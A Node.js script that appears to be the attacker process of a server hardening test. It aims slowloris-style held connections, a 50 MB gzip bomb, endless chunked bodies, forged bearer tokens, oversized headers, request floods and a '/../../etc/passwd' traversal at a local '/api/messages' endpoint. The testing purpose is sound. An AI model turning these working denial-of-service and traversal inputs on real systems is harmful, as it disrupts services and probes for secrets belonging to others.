// The attacker: a process of its own that knows the door's address and has no token. One kind of attack, until it is told to stop.
const net = require('node:net');
const { gzipSync } = require('node:zlib');

const [port, kind, forgedToken] = process.argv.slice(2);
const path = '/api/messages';
let done = 0;
let isOver = false;

function request(headers, body = '') {
  return `POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n${headers}\r\n${body}`;
}

/** Sends these bytes on a connection of its own, and what `more` gives after them; resolves when it is closed. */
function once(bytes, more, patienceMs = 5_000) {
  return new Promise((resolve) => {
    const socket = net.connect(Number(port), '127.0.0.1', () => {
      socket.write(bytes);
      const pump = () => {
        while (more && !socket.destroyed && socket.write(more));
      };
      if (more) socket.on('drain', pump);
      if (more) pump();
    });
    socket.setTimeout(patienceMs, () => socket.destroy());
    socket.on('data', () => {
      done += 1;
      socket.destroy();
    });
    socket.on('error', () => {});
    socket.on('close', resolve);
  });
}

/** Opens connections and keeps them, however often they are closed. */
function hold(count, beginning) {
  const open = () => {
    if (isOver) return;
    const socket = net.connect(Number(port), '127.0.0.1', () => socket.write(beginning));
    const drip = setInterval(() => socket.write('X-A: b\r\n'), 1_000);
    socket.on('error', () => {});
    socket.on('close', () => {
      done += 1;
      clearInterval(drip);
      setTimeout(open, 50);
    });
  };
  for (let opened = 0; opened < count; opened += 1) open();
}

const bomb = gzipSync(Buffer.alloc(50_000_000, ' '));
const megabyte = Buffer.alloc(1_000_000, 'x');
const bearer = `Authorization: Bearer ${forgedToken}\r\n`;
const chunk = Buffer.concat([Buffer.from('f4240\r\n'), megabyte, Buffer.from('\r\n')]);

const attacks = {
  'forged tokens': () => once(request(`${bearer}Content-Length: 2\r\n`, '{}')),
  'no token, 100 MB announced': () => once(request('Content-Length: 100000000\r\n'), megabyte),
  'forged token, endless chunks': () => once(request(`${bearer}Transfer-Encoding: chunked\r\n`), chunk),
  'compressed 50 MB': () =>
    once(Buffer.concat([Buffer.from(request(`Content-Encoding: gzip\r\nContent-Length: ${bomb.length}\r\n`)), bomb])),
  'headers of 15 KB': () => once(request(`X-Long: ${'a'.repeat(15_000)}\r\nContent-Length: 2\r\n`, '{}')),
  'many requests on one connection': () => once(request('Content-Length: 2\r\n', '{}').repeat(200)),
  'no HTTP': () => once(`${'\u0016\u0003\u0001'.repeat(300)}\r\n\r\n`),
  'other paths': () => once('GET /../../etc/passwd?x=%00 HTTP/1.1\r\nHost: x\r\n\r\n'),
};

async function worker(attack) {
  while (!isOver) await attack();
}

if (kind === 'slow headers') hold(1_000, `POST ${path} HTTP/1.1\r\nHost: x\r\n`);
else if (kind === 'slow bodies') hold(1_000, request('Content-Length: 1000\r\n', '{'));
else if (kind === 'silent connections') hold(1_000, '');
else for (let workers = 0; workers < 20; workers += 1) void worker(attacks[kind]);

process.on('message', () => {
  isOver = true;
  process.send({ done }, () => process.exit(0));
});
process.send('ready');
module.exports = { attacks };
